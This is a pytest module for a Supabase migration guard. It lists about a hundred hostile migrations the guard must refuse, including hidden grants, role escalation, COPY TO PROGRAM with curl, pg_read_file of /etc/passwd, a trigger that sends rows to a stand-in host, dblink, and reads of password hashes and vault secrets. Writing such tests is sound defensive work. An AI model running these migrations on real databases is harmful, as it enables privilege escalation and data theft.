"""Attacks on the schema: migrations that hide a right, escape the transaction, reach the platform, or change after approval.

Counted by mechanism. Each says what was tried and what stopped it; none may get through.
"""

# ruff: noqa: F401, F811 - pytest finds the imported fixtures by their names in this module

import re

import pytest

from tests.support.migrations import NOTES, Project, project, shared
from workers.tools.schema_guard import check_change
from workers.tools.schema_names import ChangeRefused

TRIGGER = "create function public.t() returns trigger language plpgsql set search_path = '' as $$ begin {0} return new; end $$"
BODY = "create function public.f(x text) returns void language plpgsql set search_path = '' as $$ begin {0} end $$"

# What was tried → (the migration, what the refusal says). The guard stops all of these before anything is kept or run.
GUARDED: dict[str, tuple[str, str]] = {
    # a grant that hides
    "grant inside a DO block": ("do $$ begin grant all on public.tasks to anon; end $$", "DO block"),
    "grant by EXECUTE in a body": (BODY.format("execute 'grant all on public.tasks to anon';"), "EXECUTE"),
    "grant as a statement of a body": (BODY.format("grant all on public.tasks to anon;"), "begins with GRANT"),
    "grant in a body of sql": ("create function public.f() returns void language sql as 'grant all on public.tasks to anon'", "GrantStmt"),
    "grant in a BEGIN ATOMIC body": ("create procedure public.f() begin atomic; delete from auth.users; end", "auth.users"),
    "EXECUTE behind RETURN QUERY": (BODY.replace("void", "setof text").format("return query execute x;"), "EXECUTE"),
    "EXECUTE in a FOR loop, in capitals and behind a comment": (BODY.format("for r in /* */ EXECUTE x loop null; end loop;"), "EXECUTE"),
    "default privilege for objects to come": ("alter default privileges in schema public grant all on tables to anon", "not there yet"),
    "grant to public": ("grant select on public.tasks to public", "every role"),
    "grant with grant option": ("grant select on public.tasks to authenticated with grant option", "GRANT OPTION"),
    "membership in a role": ("grant service_role to authenticated", "member of which role"),
    "grant to PAM's agent role": ("grant select on public.tasks to pam_agent", "pam_agent"),
    "grant to the worker's login": ("grant usage on schema public to pam_worker", "pam_worker"),
    "grant on a schema of the platform": ("grant usage on schema auth to anon", "leaves it alone"),
    "grant on a large object": ("grant select on large object 1 to anon", "only"),
    "grant to a quoted, Unicode-escaped role": ('grant select on public.tasks to U&"pam\\005fagent"', "pam_agent"),
    "policy to a login": ("create policy p on public.tasks to authenticator using (true)", "authenticator"),
    "policy in the name of PAM's mirror": ('create policy "pam: 9 more" on public.tasks for select to authenticated using (true)', "mirrors"),
    "PAM's mirror dropped": ('drop policy "pam: closed on drift" on public.tasks', "mirrors"),
    "PAM's mirror renamed": ('alter policy "pam: closed on drift" on public.tasks rename to other', "mirrors"),
    "owner change": ("alter table public.tasks owner to authenticated", "owner"),
    "owner change of a function": ("alter function public.f(text) owner to anon", "owner"),
    "REASSIGN OWNED": ("reassign owned by postgres to anon", "not for migrations"),
    # beyond the transaction, the session, the database
    "COMMIT in the middle": ("create table public.a (id int); commit; grant all on public.tasks to anon", "Statement 2"),
    "ROLLBACK TO a savepoint": ("savepoint s", "leave BEGIN"),
    "COMMIT in a procedure": ("create procedure public.p() language plpgsql as $$ begin commit; end $$", "COMMIT"),
    "procedure called": ("call public.p()", "does not call"),
    "SET ROLE": ("set role supabase_admin", "Settings"),
    "SET SESSION AUTHORIZATION": ("set session authorization postgres", "Settings"),
    "session setting": ("set row_security = off", "Settings"),
    "RESET": ("reset all", "Settings"),
    "setting of a function": ("create function public.f() returns int language sql set role = 'postgres' as 'select 1'", "search_path"),
    "set_config in a default": ("alter table public.tasks add column a text default set_config('role', 'postgres', false)", "set_config"),
    "prepared statement": ("prepare p as select 1", "Prepared"),
    "prepared statement run": ("execute p", "Prepared"),
    "LISTEN": ("listen pam_operator", "not for migrations"),
    "NOTIFY in a body": (BODY.format("notify pam_operator;"), "NOTIFY"),
    "LOAD of a library": ("load 'auto_explain'", "not for migrations"),
    "ALTER SYSTEM": ("alter system set ssl = off", "not for migrations"),
    "ALTER DATABASE": ("alter database postgres set row_security = off", "not for migrations"),
    "ALTER ROLE": ("alter role authenticated bypassrls", "Roles"),
    "CREATE ROLE": ("create role mole superuser login", "Roles"),
    "event trigger": ("create event trigger e on ddl_command_end execute function public.t()", "everybody's statements"),
    "rule": ("create rule r as on select to public.tasks do instead select 1", "rule"),
    "trigger on auth.users": (TRIGGER.format("") + "; create trigger t after insert on auth.users for each row execute function public.t()", "auth.users"),
    "trigger that runs a function of the platform": ("create trigger t after insert on public.tasks for each row execute function supabase_functions.http_request('http://x')", "supabase_functions"),
    "all triggers off": ("alter table public.tasks disable trigger all", "triggers off"),
    # programs, files, the network
    "COPY TO PROGRAM": ("copy public.tasks to program 'curl http://x'", "COPY"),
    "COPY in a body": (BODY.format("copy public.tasks to '/tmp/x';"), "COPY"),
    "file read in a default": ("alter table public.tasks add column a text default pg_read_file('/etc/passwd')", "pg_read_file"),
    "file read by a dot": ("create table public.a as select s.pg_read_file from unnest(array['/etc/passwd']) s", "pg_read_file"),
    "large object to a file": ("create table public.a as select lo_export(1, '/tmp/x')", "lo_export"),
    "pg_net in a trigger": (TRIGGER.format("perform net.http_post(url := 'http://x', body := to_jsonb(new));"), "net.http_post"),
    "the http extension in a policy": ("create policy p on public.tasks using (extensions.http_get('http://x') is null)", "http_get"),
    "dblink in a check": ("alter table public.tasks add check (dblink_exec('dbname=postgres', 'grant') is null)", "dblink_exec"),
    "dblink quoted": ('alter table public.tasks add check ("extensions"."dblink_exec"(title) is null)', "dblink_exec"),
    "extension with effects": ("create extension dblink with schema extensions", "not on the list"),
    "extension into public": ("create extension pg_trgm", "schema extensions"),
    "foreign server": ("create server s foreign data wrapper postgres_fdw", "not for migrations"),
    "foreign table": ("create foreign table public.x (id int) server s", "not for migrations"),
    "publication to a subscriber outside": ("create publication p for all tables", "not for migrations"),
    "subscription": ("create subscription s connection 'host=x' publication p", "not for migrations"),
    "language without trust": ("create function public.f() returns int language plpython3u as 'import os'", "sql or plpgsql"),
    "C function": ("create function public.f() returns int language c as '/tmp/x.so', 'f'", "sql or plpgsql"),
    "operator that runs a function": ("create operator public.=== (function = public.f, leftarg = int, rightarg = int)", "not for migrations"),
    "cast that runs a function": ("create cast (text as int) with function public.f(text) as implicit", "CreateCastStmt"),
    "tablespace": ("create tablespace t location '/tmp'", "not for migrations"),
    # other sessions and secrets, read by what the statement itself evaluates
    "another session ended by a generated column": ("create table public.a (b int, c bool generated always as (pg_terminate_backend(b)) stored)", "pg_terminate_backend"),
    "own function evaluated by an index": ("create index i on public.tasks (public.f(title))", "owner's rights"),
    "own function evaluated by a check": ("alter table public.tasks add check (public.f(title))", "owner's rights"),
    "own function evaluated by ALTER TYPE": ("alter table public.tasks alter column title type text using public.f(title)", "owner's rights"),
    "own function evaluated by rows": ("update public.tasks set title = public.f(title) where true", "owner's rights"),
    "people's secrets copied": ("create table public.a as select encrypted_password from auth.users", "auth.users"),
    "people's secrets by a view": ("create view public.a with (security_invoker) as select * from auth.users", "auth.users"),
    "the vault in a policy": ("create policy p on public.tasks using (exists (select from vault.decrypted_secrets))", "vault"),
    "PAM's claims in a body": (BODY.format("perform 1 from pam_private.run_claims;"), "pam_private"),
    "platform schema named with quotes in a body": (BODY.format('insert into "auth"."users" (email) values (x);'), "auth"),
    "Unicode-escaped name in a body": (BODY.format('perform U&"pam\\005fprivate".f();'), "U&"),
    "catalogue edited": ("update pg_catalog.pg_class set relrowsecurity = false where true", "pg_class"),
    "catalogue edited without its schema": ("delete from pg_policy where true", "pg_policy"),
    # PAM and the platform themselves
    "PAM dropped": ("drop schema pam cascade", "CASCADE"),
    "PAM dropped without cascade": ("drop schema pam", "leaves it alone"),
    "PAM's table changed": ("alter table pam.runs disable row level security", "pam.runs"),
    "PAM's verb replaced": ("create or replace function pam_private.role_in(org uuid, person uuid) returns int language sql as 'select 1'", "pam_private.role_in"),
    "trust granted to oneself": ("insert into pam_private.trusted_organizations values (gen_random_uuid())", "pam_private"),
    "approval forged": ("update pam.approvals set status = 'approved' where true", "pam.approvals"),
    "the CLI's history edited": ("insert into supabase_migrations.schema_migrations values ('20990101000000')", "supabase_migrations"),
    "own table moved into PAM's schema": ("alter table public.tasks set schema pam", "leaves it alone"),
    "partition of PAM's table": ("create table public.a partition of pam.audit default", "pam.audit"),
    "inherits PAM's table": ("create table public.a () inherits (pam.audit)", "pam.audit"),
    "like PAM's table": ("create table public.a (like pam.api_keys)", "pam.api_keys"),
    "foreign key to PAM's table": ("alter table public.tasks add foreign key (id) references pam.runs (id) on delete cascade", "pam.runs"),
    "sequence owned by PAM's column": ("create sequence public.s owned by pam.audit.id", "pam.audit"),
    "comment on PAM": ("comment on table pam.runs is 'x'", "pam.runs"),
    "drop with CASCADE": ("drop table public.projects cascade", "CASCADE"),
    "column drop with CASCADE": ("alter table public.projects drop column id cascade", "CASCADE"),
    "domain hiding a call": ("create domain public.d as text check (pg_sleep(10) is null)", "pg_sleep"),
    "whole schema announced": ("alter publication supabase_realtime add tables in schema public", "one by one"),
    "secrets announced by Realtime": ("alter publication supabase_realtime add table auth.users", "auth.users"),
    "TRUNCATE": ("truncate public.tasks", "TRUNCATE"),
    "temporary table in front of a real one": ("create temp table tasks (id int)", "Temporary"),
    # the text itself
    "NUL": ("create table public.a (id int); -- \0 grant", "NUL|whole characters"),
    "lone surrogate": ("create table public.a (id int); -- \ud800", "valid Unicode|whole characters"),
    "too long": ("create table public.a (id int); -- " + "x" * 200_000, "200,?000"),
    "10,000 brackets": ("create view public.v as select " + "(" * 10_000 + "1" + ")" * 10_000, "nested"),
    "5,000 operators": ("create view public.v as select 1" + " + 1" * 5_000, "strings together|chained"),
    "run of operator characters": ("create view public.v as select 1 " + "/*" * 60_000, "operator characters"),
    "500 statements": ("comment on table public.tasks is 'x';" * 500, "200 statements"),
    "nothing but a comment": ("-- grant all on public.tasks to anon", "no statement"),
    "functions and the rows that set them off": (
        "create or replace function public.f() returns trigger language plpgsql set search_path = '' as $$ begin return new; end $$;"
        " update public.tasks set title = title where id = 1", "migrations of their own"),
    "functions and a rewrite that sets them off": (
        "create or replace function public.f(a text) returns text language sql immutable as 'select a';"
        " alter table public.tasks alter column title type varchar(99)", "migrations of their own"),
    "CONCURRENTLY among other statements": ("create index concurrently i on public.tasks (title); create table public.a (id int)", "of its own"),
}  # fmt: skip


# The arguments' own limits are before the guard: what they turn away is no call that was refused.
BEFORE_THE_GUARD = ("NUL", "lone surrogate", "too long")


@pytest.mark.parametrize("mechanism", GUARDED)
async def test_a_migration_that_reaches_too_far_is_refused_in_a_sentence_and_not_kept(
    shared: Project, mechanism: str
) -> None:
    sql, said = GUARDED[mechanism]
    call = await shared.bench.planned("supabase_migrate", {"action": "propose", "name": "attack", "sql": sql})
    done = await shared.bench.carry_out(call)
    is_refused = mechanism not in BEFORE_THE_GUARD
    text = done.result or ""
    assert done.status.value == ("refused" if is_refused else "failed"), text
    assert len(text) < 1500
    assert "\n" not in text
    assert re.search(said, text), text
    assert await shared.database.admin("select 1 from pam.schema_changes where name = 'attack'") == []
    rows = await shared.database.admin(
        "select is_allowed from pam.audit where action = 'tool.supabase_migrate' and subject ->> 'call' = %s order by id",
        str(call.id),
    )
    assert [row["is_allowed"] for row in rows][-1:] == ([False] if is_refused else [])


@pytest.mark.parametrize("mechanism", BEFORE_THE_GUARD)
def test_the_guard_itself_refuses_what_the_path_refuses_before_it(mechanism: str) -> None:
    sql, said = GUARDED[mechanism]
    with pytest.raises(ChangeRefused, match=said):
        check_change(sql)


# A right that a migration hides → (the migration, the rule that finds it). Refused until somebody acknowledges the rule.
HIDDEN: dict[str, tuple[str, str]] = {
    "using (true) among fifty statements": (
        ";".join(["comment on table public.tasks is 'x'"] * 49) + "; create policy p on public.tasks for update to authenticated using (true)",
        "policy-always-true",
    ),
    "a comparison that always holds": ("create policy p on public.tasks to authenticated using (1 = 1)", "policy-always-true"),
    "true behind OR": ("create policy p on public.tasks to authenticated using (project_id = 1 or 't'::boolean)", "policy-always-true"),
    "a policy altered to true": (
        'alter policy "Members read the tasks of their projects" on public.tasks to anon using (true)', "policy-always-true"),
    "metadata that people write themselves": (
        "create policy p on public.tasks for delete to authenticated using (((select auth.jwt()) -> 'user_metadata' ->> 'is_admin') = 'yes')",
        "policy-trusts-user-metadata",
    ),
    "row-level security off": ("alter table public.tasks disable row level security", "row-security-off"),
    "row-level security not forced": ("alter table public.tasks no force row level security", "row-security-not-forced"),
    "a new table, which the project's defaults grant to anon": ("create table public.a (id int primary key)", "table-without-row-security"),
    "a table put in another's place": (
        "alter table public.invitations rename to old_invitations; create table public.invitations (like public.old_invitations)",
        "table-without-row-security",
    ),
    "a view that reads as its owner": ("create view public.a as select * from public.tasks", "view-reads-as-owner"),
    "a view that stops asking as its reader": (
        "create view public.a with (security_invoker) as select * from public.tasks; alter view public.a set (security_invoker = off)",
        "view-past-row-security",
    ),
    "a copy that is no table": ("create materialized view public.a as select * from public.tasks", "view-past-row-security"),
    "a copy that is a table": ("create table public.a as select * from public.tasks", "table-without-row-security"),
    "a function that runs as its owner, for anon": (
        "create function public.a() returns setof public.tasks language sql security definer set search_path = '' as 'select * from public.tasks'",
        "definer-open-to-anon",
    ),
    "a function that becomes one": (
        "create function public.a() returns int language sql set search_path = '' as 'select 1'; alter function public.a() security definer",
        "runs-as-owner",
    ),
    "a search_path that its caller chooses": (
        "create function public.a() returns int language sql security definer as 'select 1'; revoke execute on function public.a() from public, anon",
        "definer-without-search-path",
    ),
    "a grant to anon": ("grant insert on public.tasks to anon", "grant-to-anon"),
    "a grant to anon on a column": ("grant update (title) on public.tasks to anon", "grant-to-anon"),
    "a grant to anon on everything": ("grant all on all tables in schema public to anon", "grant-to-anon"),
    "every row changed": ("update public.tasks set title = 'x'", "every-row"),
    "every row deleted": ("delete from public.comments", "every-row"),
}  # fmt: skip


@pytest.mark.parametrize("right", HIDDEN)
async def test_a_right_that_a_migration_hides_is_found_and_stands_in_its_way(shared: Project, right: str) -> None:
    sql, rule = HIDDEN[right]
    _, text = await shared.checked(sql, name="hidden")
    assert "· refused ·" in text, text
    assert f"ERROR [{rule}]" in text, text
    assert rule in text.splitlines()[2], text  # named at once, in the second line of the report


async def test_an_acknowledged_error_stands_first_in_what_the_approver_reads(project: Project) -> None:
    reason = "Visitors may read the price list."
    sql = "grant select on public.projects to anon"
    change, text = await project.checked(sql, acknowledge={"grant-to-anon": reason})
    assert "· checked ·" in text
    _, ask = await project.asked(change)
    assert ask.shown is not None
    assert ask.shown.splitlines()[2] == f"ACKNOWLEDGED by the proposer: grant-to-anon: {reason}"
    assert sql in ask.shown


async def test_a_right_without_a_rule_still_shows_in_who_could_read_what(project: Project) -> None:
    sql = "create policy p on public.tasks for select to anon using (title is not null)"
    _, text = await project.checked(
        "grant select on public.tasks to anon;" + sql, acknowledge={"grant-to-anon": "Only to see it."}
    )
    assert "public.tasks · anon may select: nothing → rows where (title IS NOT NULL)" in text


async def test_a_table_that_is_open_to_agents_is_said_to_close(project: Project) -> None:
    await project.database.owner("select pam.open_to_agent('public.tasks')")
    _, text = await project.checked(
        'alter policy "Members read the tasks of their projects" on public.tasks using (project_id = 1)'
    )
    assert "WARNING [closes-to-agents] public.tasks" in text


def test_every_statement_of_an_honest_migration_passes() -> None:
    assert [statement.tag for statement in check_change(NOTES)] == [
        "create table",
        "create index",
        "alter table",
        "create policy",
    ]
